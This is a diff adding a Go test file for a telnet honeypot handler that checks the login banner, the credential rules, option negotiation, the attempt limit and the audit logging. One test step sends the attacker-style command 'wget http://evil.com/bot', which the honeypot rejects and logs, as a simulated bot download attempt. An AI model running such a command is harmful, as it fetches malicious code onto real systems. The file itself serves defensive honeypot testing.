@@ -0,0 +1,194 @@
+package telnet_test
+
+import (
+	"bytes"
+	"context"
+	"errors"
+	"io"
+	"net"
+	"testing"
+	"time"
+
+	"github.com/maxatome/go-testdeep/td"
+
+	"inetmock.icb4dc0.de/inetmock/internal/endpoint"
+	audit_mock "inetmock.icb4dc0.de/inetmock/internal/mock/audit"
+	"inetmock.icb4dc0.de/inetmock/internal/test"
+	"inetmock.icb4dc0.de/inetmock/pkg/audit"
+	auditv1 "inetmock.icb4dc0.de/inetmock/pkg/audit/v1"
+	"inetmock.icb4dc0.de/inetmock/pkg/logging"
+	"inetmock.icb4dc0.de/inetmock/protocols/shell/telnet"
+)
+
+const (
+	clientTimeout = 5 * time.Second
+
+	iacWillEcho = "\xff\xfb\x01"
+	iacWontEcho = "\xff\xfc\x01"
+)
+
+var defaultOptions = map[string]any{
+	"banner":           "Debian GNU/Linux 11\n\n",
+	"motd":             "Welcome!\n",
+	"maxLoginAttempts": 2,
+	"rules": []any{
+		`Login() -> Username("^root$") -> Password("^admin$") => Accept()`,
+		`Command("^uname") => Output("Linux server 5.10.0-21-amd64\n")`,
+	},
+}
+
+type step struct {
+	send string
+	want string
+}
+
+func Test_telnetHandler(t *testing.T) {
+	t.Parallel()
+	tests := []struct {
+		name       string
+		steps      []step
+		wantClosed bool
+		wantEvents []any
+	}{
+		{
+			name: "Login and execute commands",
+			steps: []step{
+				{want: "Debian GNU/Linux 11\r\n\r\nserver login: "},
+				{send: "root\r\n", want: iacWillEcho + "Password: "},
+				{send: "admin\r\x00", want: iacWontEcho + "\r\nWelcome!\r\nroot@server:~# "},
+				{send: "uname -a\r\n", want: "Linux server 5.10.0-21-amd64\r\nroot@server:~# "},
+				{send: "wget http://evil.com/bot\r\n", want: "-bash: wget: command not found\r\nroot@server:~# "},
+				{send: "exit\r\n"},
+			},
+			wantClosed: true,
+			wantEvents: []any{
+				audit.Shell{
+					EventType:  auditv1.ShellEventType_SHELL_EVENT_TYPE_LOGIN,
+					Username:   "root",
+					AuthMethod: auditv1.ShellAuthMethod_SHELL_AUTH_METHOD_PASSWORD,
+					Password:   "admin",
+					Accepted:   true,
+				},
+				audit.Shell{
+					EventType: auditv1.ShellEventType_SHELL_EVENT_TYPE_COMMAND,
+					Username:  "root",
+					Command:   "uname -a",
+				},
+				audit.Shell{
+					EventType: auditv1.ShellEventType_SHELL_EVENT_TYPE_COMMAND,
+					Username:  "root",
+					Command:   "wget http://evil.com/bot",
+				},
+				audit.Shell{
+					EventType: auditv1.ShellEventType_SHELL_EVENT_TYPE_COMMAND,
+					Username:  "root",
+					Command:   "exit",
+				},
+			},
+		},
+		{
+			name: "Refuse option negotiation",
+			steps: []step{
+				{want: "Debian GNU/Linux 11\r\n\r\nserver login: "},
+				// IAC WILL NAWS, IAC DO SUPPRESS-GO-AHEAD and a terminal type subnegotiation
+				{send: "\xff\xfb\x1f\xff\xfd\x03\xff\xfa\x18\x00xterm\xff\xf0", want: "\xff\xfe\x1f\xff\xfc\x03"},
+				{send: "admin\r\n", want: iacWillEcho + "Password: "},
+				{send: "admin\r\n", want: iacWontEcho + "\r\nLogin incorrect\r\nserver login: "},
+			},
+			wantEvents: []any{
+				audit.Shell{
+					EventType:  auditv1.ShellEventType_SHELL_EVENT_TYPE_LOGIN,
+					Username:   "admin",
+					AuthMethod: auditv1.ShellAuthMethod_SHELL_AUTH_METHOD_PASSWORD,
+					Password:   "admin",
+				},
+			},
+		},
+		{
+			name: "Close after max login attempts",
+			steps: []step{
+				{want: "Debian GNU/Linux 11\r\n\r\nserver login: "},
+				{send: "root\r\n", want: iacWillEcho + "Password: "},
+				{send: "root\r\n", want: iacWontEcho + "\r\nLogin incorrect\r\nserver login: "},
+				{send: "admin\r\n", want: iacWillEcho + "Password: "},
+				{send: "1234\r\n", want: iacWontEcho + "\r\nLogin incorrect\r\n"},
+			},
+			wantClosed: true,
+			wantEvents: []any{
+				audit.Shell{
+					EventType:  auditv1.ShellEventType_SHELL_EVENT_TYPE_LOGIN,
+					Username:   "root",
+					AuthMethod: auditv1.ShellAuthMethod_SHELL_AUTH_METHOD_PASSWORD,
+					Password:   "root",
+				},
+				audit.Shell{
+					EventType:  auditv1.ShellEventType_SHELL_EVENT_TYPE_LOGIN,
+					Username:   "admin",
+					AuthMethod: auditv1.ShellAuthMethod_SHELL_AUTH_METHOD_PASSWORD,
+					Password:   "1234",
+				},
+			},
+		},
+	}
+	for _, tc := range tests {
+		tt := tc
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			emitterMock := new(audit_mock.EmitterMock)
+			listener := startHandler(t, emitterMock, defaultOptions)
+
+			conn, err := net.DialTimeout("tcp", listener.Addr().String(), clientTimeout)
+			if err != nil {
+				t.Fatalf("net.Dial() error = %v", err)
+			}
+			t.Cleanup(func() {
+				_ = conn.Close()
+			})
+			_ = conn.SetDeadline(time.Now().Add(clientTimeout))
+
+			for _, s := range tt.steps {
+				if s.send != "" {
+					if _, err = conn.Write([]byte(s.send)); err != nil {
+						t.Fatalf("Write() error = %v", err)
+					}
+				}
+				if s.want != "" {
+					expect(t, conn, s.want)
+				}
+			}
+
+			if tt.wantClosed {
+				_, err = conn.Read(make([]byte, 1))
+				td.Cmp(t, errors.Is(err, io.EOF), true)
+			}
+
+			test.AwaitEventDetails(t, emitterMock, auditv1.AppProtocol_APP_PROTOCOL_TELNET, tt.wantEvents)
+		})
+	}
+}
+
+func startHandler(tb testing.TB, emitter audit.Emitter, opts map[string]any) net.Listener {
+	tb.Helper()
+	ctx, cancel := context.WithCancel(context.Background())
+	tb.Cleanup(cancel)
+
+	listener := test.NewTCPListener(tb, "127.0.0.1:0")
+	handler := telnet.New(logging.CreateTestLogger(tb), emitter)
+	if err := handler.Start(ctx, endpoint.NewStartupSpec(tb.Name(), endpoint.NewUplink(listener), opts)); err != nil {
+		tb.Fatalf("Start() error = %v", err)
+	}
+
+	return listener
+}
+
+// expect reads exactly the given bytes from the connection
+func expect(tb testing.TB, conn net.Conn, want string) {
+	tb.Helper()
+	got := make([]byte, len(want))
+	if _, err := io.ReadFull(conn, got); err != nil {
+		tb.Fatalf("ReadFull() error = %v, got %q", err, got)
+	}
+	if !bytes.Equal(got, []byte(want)) {
+		tb.Fatalf("got %q, want %q", got, want)
+	}
+}